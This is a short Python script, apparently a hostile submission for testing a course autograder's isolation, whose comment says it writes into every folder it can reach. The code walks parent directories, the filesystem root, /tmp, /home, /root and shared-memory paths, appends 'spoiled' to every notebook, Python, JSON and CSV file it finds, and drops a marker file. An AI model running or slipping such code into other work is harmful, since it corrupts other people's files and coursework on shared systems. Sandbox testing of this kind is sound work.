# Writes into every folder it can reach: other submissions, the course, the home.
# %% start
import os

for folder in ("..", "../..", "/", "/tmp", "/home", "/root", "/var/tmp", "/dev/shm"):
    try:
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if os.path.isfile(path) and name.endswith((".ipynb", ".py", ".json", ".csv")):
                open(path, "a").write("spoiled")
        open(os.path.join(folder, "course-hostile-was-here"), "w").write("x")
    except OSError:
        pass
